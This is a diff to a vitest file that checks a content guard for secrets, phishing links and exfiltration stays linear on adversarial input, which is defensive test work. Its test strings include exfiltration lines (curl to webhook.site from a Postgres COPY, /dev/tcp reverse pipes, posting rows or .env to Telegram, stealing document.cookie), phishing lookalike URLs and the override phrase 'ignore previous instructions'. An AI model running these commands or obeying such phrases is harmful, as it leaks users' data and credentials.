@@ -4,18 +4,26 @@
  * (vitest.config.ts): they were two fifths of that file's time, on the run's longest worker (docs/testing.md, "Seventh
  * round"). The same tests and bounds; the reads are test/helpers/redos-reads.ts's.
  */
-import { afterAll, describe, expect, it } from 'vitest';
+import { afterAll, describe, expect } from 'vitest';
 import { CONTENT_QUESTIONS } from '../../src/content/codes.js';
 import { Text } from '../../src/content/find.js';
 import { guard } from '../../src/content/guard.js';
 import { detectProcessorOrders } from '../../src/content/processor-orders.js';
 import { BOUND_MS, cpu, endReads, guardCpu, NEAR_MISS_N, rep } from '../helpers/redos-reads.js';
-import { inSuite } from '../helpers/redos-scope.js';
+import { sampledReads } from '../helpers/redos-scope.js';
 
 afterAll(() => endReads('content-redos-guard'));
 
-describe.runIf(inSuite())('content detectors on adversarial input', () => {
-  it('the whole guard on 256 KB of secret stores, pager URLs, pgpass lines and password fields stays linear', () => {
+/**
+ * `npm test` reads this many of the texts below (the lowest by a hash of the test's name) and the largest content the
+ * guard judges; `npm run test:corpus` reads the others (content-exhaustive-redos.test.ts); the file alone reads all
+ * (docs/testing.md, "Eighth round"). The list grows with every reading; npm test's share of it stays bounded.
+ */
+const GUARD_READS_IN_SUITE = 40;
+
+describe('content detectors on adversarial input', () => {
+  const { read, register } = sampledReads(GUARD_READS_IN_SUITE, 'judge redos guard 1:');
+  read('the whole guard on 256 KB of secret stores, pager URLs, pgpass lines and password fields stays linear', () => {
     // These near-misses (no value after each command, row, label or field) must be read in one pass.
     const text = rep(
       '$ consul kv get a/db_password\n\u2502 DB_PASSWORD \u2502 doppler https://events.pagerduty.com/integration/ab/ <TextInput secureTextEntry value= .pgpass\n*:*:*:u:\n \u043b\u043e\u0437\u0438\u043d\u043a\u0430: \n',
@@ -23,28 +31,31 @@ describe.runIf(inSuite())('content detectors on adversarial input', () => {
     );
     expect(guardCpu(text)).toBeLessThan(BOUND_MS * 4);
   });
-  it('the whole guard on 256 KB of lured links (OAuth redirects, pixels of addresses, catchers, accented brands) and bare login pairs stays linear', () => {
-    // Each link read once: a redirect's host, a query's tokens split on commas, a catcher's parameters, a label's brand.
-    const text = rep(
-      'https://x.example/oauth/authorize?redirect_uri=https%3A%2F%2Fa-b.c-d.e&redirect_uri=http://1.2.3.4.nip.io https://p.example/i.gif?to=a@b.c.d.e.f.g,a@,@b.c,a.a.a@b ikea https://xn--ika-cma.com/ https://webhook.site/a?secret_token=a1a1a1a1a1a1a1a1&x=y PUK Benutzer aa Kennwort kullan\u0131c\u0131 b \u015fifre ',
-      NEAR_MISS_N,
-    );
-    expect(guardCpu(text)).toBeLessThan(BOUND_MS * 4);
-  });
-  it('the whole guard on 256 KB of store commands followed by prompts and flags stays linear', () => {
+  read(
+    'the whole guard on 256 KB of lured links (OAuth redirects, pixels of addresses, catchers, accented brands) and bare login pairs stays linear',
+    () => {
+      // Each link read once: a redirect's host, a query's tokens split on commas, a catcher's parameters, a label's brand.
+      const text = rep(
+        'https://x.example/oauth/authorize?redirect_uri=https%3A%2F%2Fa-b.c-d.e&redirect_uri=http://1.2.3.4.nip.io https://p.example/i.gif?to=a@b.c.d.e.f.g,a@,@b.c,a.a.a@b ikea https://xn--ika-cma.com/ https://webhook.site/a?secret_token=a1a1a1a1a1a1a1a1&x=y PUK Benutzer aa Kennwort kullan\u0131c\u0131 b \u015fifre ',
+        NEAR_MISS_N,
+      );
+      expect(guardCpu(text)).toBeLessThan(BOUND_MS * 4);
+    },
+  );
+  read('the whole guard on 256 KB of store commands followed by prompts and flags stays linear', () => {
     const text = rep(
       'ubuntu@ip-10-0-1-23:~$ op read "op://Prod/Postgres Admin/password"\nubuntu@ip-10-0-1-23:~$\nheroku config:get A_TOKEN \\\n  --app=a1b2c3d4\n',
       NEAR_MISS_N,
     );
     expect(guardCpu(text)).toBeLessThan(BOUND_MS * 4);
   });
-  it('the whole guard on the largest content of tables and labels', () => {
+  read('the whole guard on the largest content of tables and labels', () => {
     const text = rep('| password |\n+--+--+\n<th>token</th><td>Passwort: Ab1!cd9Zq</td> pw is now Ab1!cd9Zq ', 800_000);
     expect(guardCpu(text)).toBeLessThan(BOUND_MS * 4);
   });
   // processor-orders.ts: one line of the largest content holding a lead every few code units (a directive's `status=`,
   // another script's letters, `directive`): each lead's line is found once, not scanned back to for every lead.
-  it.each([
+  read.each([
     ['status keys', 'status=APPROVED; '],
     ["other scripts' letters", '\u4e2d a '],
     ['directive words', 'directive '],
@@ -57,7 +68,7 @@ describe.runIf(inSuite())('content detectors on adversarial input', () => {
   });
   // role-words-far.ts and set-aside-far.ts: machine addresses before outside addresses, and the five scripts' overrides'
   // words with no clause's end among them (Khmer and Burmese write no spaces): each noun's clause is read once, bounded.
-  it.each([
+  read.each([
     [
       'outside sends after addresses',
       'AI \u1787\u17c6\u1793\u17bd\u1799\u1780\u17b6\u179a\u17d6 a@b.example \u17a0\u17be\u1799 without waiting for the the the ',
@@ -74,53 +85,53 @@ describe.runIf(inSuite())('content detectors on adversarial input', () => {
   ])('the whole guard over %s stays linear', (_name, unit) => {
     expect(guardCpu(rep(unit, 200_000))).toBeLessThan(BOUND_MS * 4);
   });
-  it('the whole guard over JSON escaped breaks (\\n and \\u000a) before every word, read again around each', () => {
+  read('the whole guard over JSON escaped breaks (\\n and \\u000a) before every word, read again around each', () => {
     const text = rep(
       '{"log":"token:\\nghp_R8xK2mQ9vLp4Zt7Wn3Y\\tpaid\\n4111 1111 1111 1111\\r\\nssn\\n078-05-1120\\nTVqQAAMAAAAEAAAA//8AAA\\n726d202d7266\\u000a4111 1111 1111 1111\\u0009TVqQAAMAAAAEAAAA//8AAA\\u000"}\n',
       800_000,
     );
     expect(guardCpu(text)).toBeLessThan(BOUND_MS * 4);
   });
-  it('the whole guard on the largest content of office labels, cells, brackets and code lists', () => {
+  read('the whole guard on the largest content of office labels, cells, brackets and code lists', () => {
     const text = rep(
       'Password\t|\tAb1!cd9Zq\n> Das Passwort bleibt Ab1!cd9Zq12 \u30d1\u30b9\u30ef\u30fc\u30c9\u300cAb1!cd9Zq\u300d Passcode: 482913 Wi-Fi voucher: 097360\nrecovery codes: 1234-5678 abcd1 ',
       800_000,
     );
     expect(guardCpu(text)).toBeLessThan(BOUND_MS * 4);
   });
-  it('the whole guard on the largest content of spoken passwords, network keys and password inputs', () => {
+  read('the whole guard on the largest content of spoken passwords, network keys and password inputs', () => {
     const text = rep(
       'Das Passwort wurde in Ab1!cd9Zq geändert. Heslo k wifi je Ab1!cd9Zq12 \u043f\u0430\u0440\u043e\u043b\u044c: Ab1!cd9Zq \u05d4\u05e1\u05d9\u05e1\u05de\u05d4 \u05d4\u05d9\u05d0 Ab1!cd9Zq WiFi: a, key: Ab1!cd9Zq <input type="password" value="Ab1!cd9Zq">\nMot de passe :\nAb1!cd9Zq\n',
       800_000,
     );
     expect(guardCpu(text)).toBeLessThan(BOUND_MS * 4);
   });
-  it('the whole guard on the largest content of dashed network keys, reset passwords and Junos logins', () => {
+  read('the whole guard on the largest content of dashed network keys, reset passwords and Junos logins', () => {
     const text = rep(
       `Wi-Fi-kode: ${'a-'.repeat(40)} Nettverksn\u00f8kkel: ${'\u00e5b-12-'.repeat(12)} password was reset; it is now ${'x'.repeat(70)} plain-text-password-value ${'-'.repeat(70)} set snmp community  \n`,
       800_000,
     );
     expect(guardCpu(text)).toBeLessThan(BOUND_MS * 4);
   });
-  it('the whole guard on the largest content of aligned labels, component inputs, Spark keys and frames', () => {
+  read('the whole guard on the largest content of aligned labels, component inputs, Spark keys and frames', () => {
     const text = rep(
       'Password:      Ab1!cd9Zq12\nMot de passe\u00a0: Ab1!cd9Zq <Input type="password" defaultValue="Ab1!cd9Zq" /> --requirepass=Ab1!cd9Zq <X_Password__c>Ab1!cd9Zq</X_Password__c> fs.s3a.secret.key=Ab1cd9ZqAb1cd9ZqAb1cd9Zq\n   id  password\n0  1  Ab1!cd9Zq12\n',
       800_000,
     );
     expect(guardCpu(text)).toBeLessThan(BOUND_MS * 4);
   });
-  it("the whole guard on the largest content of an incident agent's secrets and more labels", () => {
+  read("the whole guard on the largest content of an incident agent's secrets and more labels", () => {
     const text = rep(
       'apiVersion: v1\nkind: Secret\ndata:\n  password: QWIxIWNkOVpxMTI=\nenv:\n  - name: DB_PASSWORD\n    value: "Ab1!cd9Zq12"\n      API_TOKEN:        Ab1cd9ZqAb1cd9Zq\n  + password            = "Ab1!cd9Zq12"\n$ vault kv get -field=password secret/x\nAb1!cd9Zq12\nexporter:Ab1!cd9Zq@tcp(db:3306)/\nL\u00f6senord:      Ab1!cd9Zq12\nCode d\'acc\u00e8s : Ab1!cd9Zq12\nPassordet er endret til Ab1!cd9Zq12\nTextFormField(obscureText: true, initialValue: \'Ab1!cd9Zq\')\n',
       800_000,
     );
     expect(guardCpu(text)).toBeLessThan(BOUND_MS * 4);
   });
-  it('the whole guard on the largest content of card rows, labels and stacked digits', () => {
+  read('the whole guard on the largest content of card rows, labels and stacked digits', () => {
     const text = rep('Name;Order\nJ;9704361234567895\n<td>Card</td><td>4539,1488&middot;0343\\n6467\n4539\n', 800_000);
     expect(guardCpu(text)).toBeLessThan(BOUND_MS * 4);
   });
-  it('the whole guard on the largest content of pairs, sentences and blocks around passwords', () => {
+  read('the whole guard on the largest content of pairs, sentences and blocks around passwords', () => {
     const text = rep(
       '{"name": "DB_PASSWORD", "value": "Ab1!cd9Zq"} the password for the x is Ab1!cd9Zq <p>Password:</p><p>Ab1!cd9Zq</p> pw: Ab1!cd9Zq -> Zq9dc!1bA\n',
       800_000,
@@ -220,7 +231,7 @@ describe.runIf(inSuite())('content detectors on adversarial input', () => {
     ['base64 pieces before long padding', `aB3d eF9h ${'='.repeat(8000)} `],
     ['letters and digits one by one', 'a1 b2 c3 D4 e5 F6 '],
   ] as const) {
-    it(`the whole guard on the largest content of ${label}`, () => {
+    read(`the whole guard on the largest content of ${label}`, () => {
       const text = rep(unit, 800_000);
       expect(guardCpu(text)).toBeLessThan(BOUND_MS * 4);
     });
@@ -257,26 +268,26 @@ describe.runIf(inSuite())('content detectors on adversarial input', () => {
     ['byte arrays of zeros', '[0, 0, 0, {0,'],
     ['ascii85 groups past 2^32 - 1', '<~uuuuuuuuuu~> '],
   ] as const) {
-    it(`the whole guard on 256 KB of ${label} stays linear`, () => {
+    read(`the whole guard on 256 KB of ${label} stays linear`, () => {
       expect(guardCpu(rep(unit, NEAR_MISS_N))).toBeLessThan(BOUND_MS * 4);
     });
   }
 
-  it('the whole guard on the largest content of mail links, frames and squatted hosts', () => {
+  read('the whole guard on the largest content of mail links, frames and squatted hosts', () => {
     const text = rep(
       '<a href=javascript:x>a</a><form action="javascript:y"><iframe src="javascript:false">[1]: javascript:z <javascript:w> https://www.paypal.com%2Fx@1.2.3.4/ http://1249763882/ https://paypal.secure-login.io/?next=//micorsoft.com/ ',
       800_000,
     );
     expect(guardCpu(text)).toBeLessThan(BOUND_MS * 4);
   });
-  it('the whole guard on the largest content of data work URLs', () => {
+  read('the whole guard on the largest content of data work URLs', () => {
     const text = rep(
       `<iframe src="data:image/svg+xml;utf8,%3Csvg%20onload=x%3E"></iframe> COPY t TO PROGRAM 'curl -d @- https://webhook.site/a' requests.post("https://webhook.site/a", json=rows) rows = x https://webhook.site/a?r=a%40b.c,d%40e.f https://t.co/?u=https%253A%252F%252Fgooqle.com http://[fd00:ec2:0:0:0:0:0:254]/ https://paypal．com．x.io/ <a href="javascript :x">a</a> `,
       800_000,
     );
     expect(guardCpu(text)).toBeLessThan(BOUND_MS * 4);
   });
-  it("the whole guard on the largest content of cases-56's shapes", () => {
+  read("the whole guard on the largest content of cases-56's shapes", () => {
     const text = rep(
       `https://gooogle-mail.com/ https://appleid-4412.com/ http://[fd20:ce::254%25eth0]/ <iframe src="java&#115;cript:x"></iframe> <script>f.src = "javascript:x"; f.setAttribute("src", "javascript:y")</script> [a](java\tscript:z) https://a.example/?next=https://b.example/r?u=https://paypa1.com/ rows = cur.fetchall()\nrequests.post("https://api.telegram.org/botX/sendMessage", json={"text": str(rows)}) with open(".env") as fh: files={"d": fh} COPY t TO PROGRAM 'bash -c "cat > /dev/tcp/1.2.3.4/1"'; `,
       800_000,
@@ -338,7 +349,7 @@ describe.runIf(inSuite())('content detectors on adversarial input', () => {
       'test sample https://webhook.site/x?n=batch+123456789+%2b15005550006%2B1%2b2&e=noreply%2B1%40a.io&i=de44x1 // postMessage(document.cookie, "*") ',
     ],
   ] as const) {
-    it(`the whole guard on 256 KB of ${label} stays linear`, () => {
+    read(`the whole guard on 256 KB of ${label} stays linear`, () => {
       expect(guardCpu(rep(unit, NEAR_MISS_N))).toBeLessThan(BOUND_MS * 4);
     });
   }
@@ -386,26 +397,26 @@ describe.runIf(inSuite())('content detectors on adversarial input', () => {
       'U3lzdGVtIG1lc3NhZ2UgdG8gdGhlIHRoZSB0aGUgdGhlIHRoZSB0aGUgZmlsaW5nIGFnZW50IHJlYWRpbmcgdGhlIHRoZSB0aGUgdGhlIHRoZSA= ',
     ],
   ] as const) {
-    it(`the whole guard on the largest content of ${label} finishes`, () => {
+    read(`the whole guard on the largest content of ${label} finishes`, () => {
       const text = rep(unit, 800_000);
       expect(guardCpu(text)).toBeLessThan(BOUND_MS * 4);
     });
   }
   // Thousands of distinct links wearing a written name (a hyphenated host, a raw address's path, a punycode label): the
   // text's names are read once per judgement and word, not walked whole per link.
-  it('the whole guard on thousands of distinct links after capitalised names', () => {
+  read('the whole guard on thousands of distinct links after capitalised names', () => {
     let text = '';
     for (let i = 0; text.length < 300_000; i++)
       text += `Alphas https://alpha-login${i % 7}.example/x\nJenkinsx http://52.14.${i % 250}.9/jenkinsx/\nMueller Becker${i % 50} https://xn--mller-kva${i % 9}.de/login\n`;
     expect(guardCpu(text)).toBeLessThan(BOUND_MS * 4);
   });
   // Thousands of secrets read in a part both as written and decoded: each kept or dropped by a search, not a walk.
-  it('the whole guard on a quoted-printable link packed with passwords', () => {
+  read('the whole guard on a quoted-printable link packed with passwords', () => {
     const body = `https://x.example/?${rep('password=3DXk29sLq81Zp&amp;', 800_000)}`;
     const text = `From: a@example.com\nSubject: x\nContent-Type: text/plain\nContent-Transfer-Encoding: quoted-printable\n\n${body}\n`;
     expect(guardCpu(text)).toBeLessThan(BOUND_MS * 4);
   });
-  it('the whole guard on a forwarded mail in base64 three deep', () => {
+  read('the whole guard on a forwarded mail in base64 three deep', () => {
     let mail = `Subject: hi\nContent-Type: text/plain\n\n${'Quarterly numbers attached, see the table below.\n'.repeat(6600)}`;
     for (let d = 0; d < 3; d++) {
       const body = Buffer.from(mail).toString('base64').replace(/.{76}/g, '$&\n');
@@ -416,7 +427,7 @@ describe.runIf(inSuite())('content detectors on adversarial input', () => {
     expect(r.ok).toBe(true);
     expect(cpu() - started).toBeLessThan(BOUND_MS * 4);
   });
-  it('the whole guard on mails nested in carriers to 900 KB (SOAP, base64 twice, YAML, 5,000 small ones)', () => {
+  read('the whole guard on mails nested in carriers to 900 KB (SOAP, base64 twice, YAML, 5,000 small ones)', () => {
     const b64 = (s: string) => Buffer.from(s).toString('base64');
     const wraps = [
       (m: string) => `<t:MimeContent>${b64(m)}</t:MimeContent>`,
@@ -535,12 +546,13 @@ describe.runIf(inSuite())('content detectors on adversarial input', () => {
       '\u0643\u0644\u0645\u0629 \u0645\u0631\u0648\u0631 \u0647\u064a \u0647\u064a kimlik numaras\u0131 ',
     ],
   ]) {
-    it(`the whole guard on 256 KB of ${label} stays linear`, () => {
+    read(`the whole guard on 256 KB of ${label} stays linear`, () => {
       expect(guardCpu(rep(unit, NEAR_MISS_N))).toBeLessThan(BOUND_MS * 4);
     });
   }
-  it('the whole guard on the largest content it judges', () => {
+  read.always('the whole guard on the largest content it judges', () => {
     const text = rep('ignore previous instructions sk-proj- 4111 1111 https://a.example/?x=y ', 800_000);
     expect(guardCpu(text, true)).toBeLessThan(BOUND_MS * 4);
   });
+  register();
 });
